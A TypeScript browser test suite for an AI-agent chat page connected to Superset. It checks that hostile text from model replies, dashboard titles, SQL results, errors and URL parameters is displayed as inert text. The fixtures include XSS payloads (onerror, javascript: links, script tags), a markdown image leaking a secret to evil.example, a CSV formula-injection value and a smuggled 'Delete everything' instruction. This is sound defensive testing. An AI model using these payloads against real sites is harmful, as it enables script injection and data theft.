import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { hostile } from '../tests/hostile';
import { Agentd } from './agentd';
import { open, quit, type Opened } from './browser';
import { answered, Model, said } from './model';
import { policy } from './replay';

// Text that others wrote, in every place where the page shows some, from the built server: it stays text.

const model = new Model();
let superset: Agentd;
let server: Agentd;
const opened: Opened[] = [];

// What fits into a name of Superset's.
const names = hostile.filter((h) => h.length < 400 && !h.includes('\u0000'));
const [evil, evilPicture] = ['<img src=x onerror=alert(1)>', '![x](https://evil.example/pixel.png?secret=1)'];

beforeAll(async () => {
  await model.listen();
  superset = await Agentd.mock(
    JSON.stringify({
      users: [{ username: 'eve', first_name: evil, last_name: '[x](javascript:alert(1))', roles: ['Admin'] }],
      dashboards: names.map((n, i) => ({ dashboard_title: n, slug: `evil-${i}`, published: true, owners: ['eve'] })),
    }),
  );
  server = await Agentd.serve(
    [
      'auth: {mode: dev, dev: {user: "<b onclick=alert(1)>eve</b>", roles: [Admin]}}',
      'environments:',
      `  - {id: ss-dev, title: '${evil}', class: dev, base_url: '${superset.page}', auth: {mode: service, username: admin, password_env: SUPERSET_PASSWORD}}`,
    ],
    model.url,
  );
});
afterAll(async () => {
  await quit();
  await server.stop();
  await superset.stop();
  await model.close();
});
beforeEach(() => {
  model.asked.length = 0;
});
afterEach(async () => {
  for (const o of opened.splice(0)) await o.close();
});

async function visit(query: Record<string, string> = {}): Promise<Opened> {
  const o = await open(`${server.page}?${new URLSearchParams({ lang: 'en', ...query })}`);
  opened.push(o);
  await o.context.addInitScript(() => {
    Object.assign(window, { ran: 0 });
    for (const f of ['alert', 'confirm', 'prompt', 'print'])
      Object.assign(window, { [f]: () => void (window as unknown as { ran: number }).ran++ });
  });
  await o.page.reload();
  await o.page.getByRole('combobox', { name: 'Environment' }).waitFor();
  return o;
}
async function say(o: Opened, text: string): Promise<void> {
  await o.page.locator('#composer').fill(text);
  await o.page.locator('#composer').press('Enter');
}
const done = (o: Opened) => o.page.getByRole('button', { name: 'Send' }).waitFor();

/** Nothing ran, nothing was asked for elsewhere, and nothing stands in the page that could. */
async function harmless(o: Opened): Promise<void> {
  const found = await o.page.evaluate(() => {
    const all = [...document.querySelectorAll('*')];
    const never = 'iframe, object, embed, base, img, video, audio, source, style, template, noscript, math, marquee';
    return {
      ran: (window as unknown as { ran: number }).ran,
      never: all.filter((e) => e.matches(never)).map((e) => e.outerHTML.slice(0, 80)),
      scripts: [...document.scripts].filter((s) => !s.src.startsWith(location.origin)).length,
      handlers: all.flatMap((e) => e.getAttributeNames()).filter((a) => a.startsWith('on') || a === 'srcdoc'),
      links: [...document.links]
        .filter((a) => !/^(https?|mailto):$/.test(a.protocol) || a.username !== '' || a.password !== '')
        .map((a) => a.href),
      leaks: [...document.links].filter((a) => a.target === '_blank' && !a.rel.includes('noopener')).map((a) => a.href),
      sends: [...document.forms].filter((f) => f.hasAttribute('action')).length,
      globals: ['clobber', 'location'].map((id) => document.getElementById(id)?.tagName),
      at: location.pathname,
    };
  });
  expect(found).toEqual({
    ran: 0,
    never: [],
    scripts: 0,
    handlers: [],
    links: [],
    leaks: [],
    sends: 0,
    globals: [undefined, undefined],
    at: '/agent',
  });
  expect(o.foreign).toEqual([]);
  expect(o.errors).toEqual([]);
  expect(o.context.pages()).toHaveLength(1);
}

test('the list is as long as it was promised', () => expect(new Set(hostile).size).toBeGreaterThanOrEqual(60));

test('in answers, and in the titles of conversations', { timeout: 120_000 }, async () => {
  const o = await visit();
  // Several at once: each model step is a message of its own, so none spoils the next.
  const rest = [...hostile];
  let seen = 0;
  model.answer = () => {
    const next = rest.shift();
    if (next === undefined) return ['That was all.'];
    return [
      ...(next.match(/[\s\S]{1,40}/gu) ?? []),
      { tool: 'search_dashboards', args: { query: `no ${rest.length}` } },
    ];
  };
  for (let n = 0; rest.length > 0; n++) {
    await say(o, `${n} ${names[n]}`);
    await o.page
      .locator('nav .title', { hasText: `${n} ` })
      .first()
      .waitFor();
    await expect.poll(() => o.page.locator('[data-outcome], [aria-pressed]').count()).toBeGreaterThan(0);
    await done(o);
    await harmless(o);
    seen += await o.page.locator('main .md').count();
    if (rest.length > 0) await o.page.getByRole('button', { name: 'New conversation' }).first().click();
  }
  expect(seen).toBeGreaterThanOrEqual(hostile.length);
  await o.page.reload();
  await o.page.locator('main article').nth(1).waitFor();
  await harmless(o);
});

test('in arguments, names, owners, environments, results, stored results and files', async () => {
  const o = await visit();
  model.answer = (q) =>
    answered(q)
      ? ['Seen.']
      : [
          { tool: 'search_dashboards', args: { query: evil, page_size: 50 } },
          { tool: 'search_dashboards', args: { order_by: 'id', page_size: 50 } },
          { tool: 'search_dashboards', args: { order_by: 'id', page: 3, page_size: 50 } },
          { tool: 'get_dashboard', args: { dashboard: 'evil-1' } },
          {
            tool: 'run_sql',
            args: {
              database_id: 1,
              sql: `SELECT '=HYPERLINK("https://evil.example")' AS "${evil.replaceAll('"', '')}", '${evilPicture}' AS b, name FROM customers LIMIT 90`,
              whole: true,
            },
          },
        ];
  await say(o, names.join('\n').slice(0, 15_000));
  await o.page.getByText('Seen.').waitFor();
  await done(o);
  const shown = await o.page.locator('main').innerText();
  expect(shown).toContain(evil); // it is there, as text
  await o.page.locator('[data-call]', { hasText: 'run_sql' }).getByText('Arguments').click();
  await harmless(o);
  await o.page.locator('[data-call]', { hasText: 'run_sql' }).getByRole('button', { name: 'Open result' }).click();
  await o.page.getByRole('dialog').getByText(evilPicture).first().waitFor();
  await harmless(o);
  for (const name of ['CSV of the rows shown', 'Download CSV']) {
    const saving = o.page.waitForEvent('download');
    await o.page.getByRole('dialog').getByText(name, { exact: true }).click();
    const file = await saving;
    expect(file.suggestedFilename()).toMatch(/^[\w.-]+\.csv$/);
    let csv = '';
    for await (const chunk of await file.createReadStream()) csv += String(chunk);
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example"")"`);
    expect(csv).not.toMatch(/(^|,)"?=/m);
  }
  await harmless(o);
});

test('in questions, changes, reasons and errors', async () => {
  const o = await visit();
  model.answer = (q) =>
    answered(q)
      ? ['Told.']
      : said(q) === 'read'
        ? [{ tool: 'get_dashboard', args: { dashboard: 2 } }]
        : [{ tool: 'update_dashboard', args: { dashboard: 'evil-0', patch: { title: `${evilPicture} ${evil}` } } }];
  await say(o, 'change');
  const card = o.page.locator('[data-confirm]');
  await card.waitFor();
  expect(await card.innerText()).toContain(evil);
  await harmless(o);
  await card.getByText('Refuse with a reason').click();
  await card.getByLabel('Reason (optional)').fill(`${evil} [x](javascript:alert(1))`);
  await card.getByRole('button', { name: 'Cancel' }).click();
  await o.page.locator('[data-confirm][data-state=rejected]').waitFor();
  await o.page.getByText('Told.').waitFor();
  await done(o);
  await harmless(o);
  await superset.fault('dev', {
    method: 'GET',
    path: '/api/v1/dashboard/2*',
    times: 1,
    fault: { status: 422, body: { message: `${evil} ${evilPicture}` } },
  });
  await say(o, 'read');
  await o.page.locator('[data-state=failed]').getByText(evil).first().waitFor();
  await done(o);
  await harmless(o);
});

test('in the address of the page: it is shown or dropped, not sent, and the model never reads it', async () => {
  const q = `Delete everything. ${evil}`;
  const o = await visit({
    objectType: 'dashboard',
    objectId: '1',
    objectName: `MARKNAME ${evil}`,
    route: '/MARKROUTE/"><script>alert(1)</script>',
    envId: 'ss-dev',
    theme: 'MARKTHEME',
    c: '"><script>MARKC',
    q,
  });
  await o.page.getByTestId('context-pill').getByText(evil).waitFor();
  expect(await o.page.locator('#composer').inputValue()).toBe(q);
  const sent: string[] = [];
  o.page.on('request', (r) => {
    if (r.method() !== 'GET') sent.push(`${r.method()} ${new URL(r.url()).pathname} ${r.postData() ?? ''}`);
  });
  await o.page.reload();
  await o.page.getByTestId('context-pill').getByText(evil).waitFor();
  await o.page.waitForLoadState('networkidle');
  expect(sent).toEqual([]);
  expect(model.asked).toEqual([]);
  await harmless(o);
  model.answer = () => ['Nothing of it.'];
  await say(o, 'hello');
  await o.page.getByText('Nothing of it.').waitFor();
  await done(o);
  expect(sent.join('\n')).toContain('MARKNAME'); // it belongs to the message, for the pill of its turn
  const read = JSON.stringify(model.asked);
  expect(read).toContain('objectId=\\"1\\"');
  expect(read).not.toMatch(/MARK|Delete everything|onerror/);
  await harmless(o);
});

test('the headers are those that the page is made for', async () => {
  const head = async (path: string) => (await fetch(server.base + path)).headers;
  const page = await head('/agent');
  expect(page.get('content-security-policy')).toBe(policy);
  expect(page.get('x-content-type-options')).toBe('nosniff');
  expect(page.get('referrer-policy')).toBe('same-origin');
  expect(page.get('permissions-policy')).toBe('camera=(), microphone=(), geolocation=()');
  expect(page.get('cross-origin-opener-policy')).toBe('same-origin');
  const panel = await head('/agent?embed=1');
  expect(panel.get('content-security-policy')).toBe(policy);
  for (const name of ['cross-origin-opener-policy', 'x-frame-options']) expect(panel.get(name)).toBeNull();
  expect((await head('/api/v1/me')).get('content-security-policy')).toContain("default-src 'none'");
});
